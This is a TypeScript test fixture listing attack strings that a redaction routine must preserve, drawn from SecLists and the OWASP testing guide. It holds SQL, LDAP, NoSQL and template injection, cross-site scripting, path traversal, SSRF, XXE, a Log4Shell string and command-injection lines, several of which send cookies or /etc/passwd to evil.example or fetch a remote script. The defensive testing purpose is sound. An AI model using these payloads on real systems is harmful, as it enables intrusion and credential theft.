/**
 * Attack strings that must survive redaction. SQL: SecLists, Fuzzing/SQLi/Generic-SQLi.txt (MIT). The
 * others: OWASP Web Security Testing Guide 4.2, and the public reports of the attacks they name.
 */
export const INJECTIONS: readonly string[] = [
  // SQL
  "' or 1=1--",
  "' or '1'='1'--",
  ") or ('a'='a",
  'hi" or 1=1 --"',
  "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
  "'; exec master..xp_cmdshell 'ping 172.10.1.255'--",
  '1) or benchmark(10000000,MD5(1))#',
  "1 waitfor delay '0:0:10'--",
  '") or pg_sleep(5)--',
  '1;(load_file(char(47,101,116,99,47,112,97,115)))',
  'declare @s varchar(200) select @s = 0x73656c65637420404076657273696f6e exec(@s)',
  '0x730065006c0065006300740020004000400076006500',
  "' UNION ALL SELECT login, password FROM users--",
  "x' AND email IS NULL; --",
  'or%201=1 --',
  '%20or%20x=x',
  '%27%20or%201=1',
  '/**/or/**/1/**/=/**/1',
  ' -- &password=',
  'password:*/=1--',
  "admin' or password like '%",
  "' OR password='x' OR ''='",
  'and extractvalue(1, concat(0x0a,(select schema_name from information_schema.schemata))) -- -',
  '*(|(objectclass=*))',
  '%2A%28%7C%28mail%3D%2A%29%29',
  // scripts
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  "<svg/onload=fetch('//evil.example/'+document.cookie)>",
  'javascript:alert(1)//',
  '<iframe srcdoc="<script>top.document.cookie</script>">',
  // paths, files and addresses
  '../../../../etc/passwd',
  '..%2f..%2f..%2f..%2fetc%2fshadow',
  '....//....//etc/passwd',
  'php://filter/convert.base64-encode/resource=config.php',
  'file:///proc/self/environ',
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'gopher://127.0.0.1:6379/_FLUSHALL',
  // commands, templates, other languages
  '; cat /etc/passwd | nc evil.example 4444',
  '$(curl http://evil.example/a1b2c3d4e5f6.sh)',
  '`id`',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is an attack
  "${T(java.lang.Runtime).getRuntime().exec('id')}",
  '#{7*7}',
  '<%= system("id") %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is an attack
  '${jndi:ldap://evil.example/a1b2c3d4e5f6a7b8}',
  '{"$where":"sleep(5000)"}',
  '{"username":{"$ne":null}}',
  '__proto__[isAdmin]=true',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '%0d%0aSet-Cookie:%20injected=1',
  // serialised objects: Java, .NET, Python, PHP
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg',
  'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0',
  'gASVMgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjBdpZJSFlFKULg',
  'Tzo4OiJzdGRDbGFzcyI6MTp7czo1OiJhZG1pbiI7YjoxO30',
];
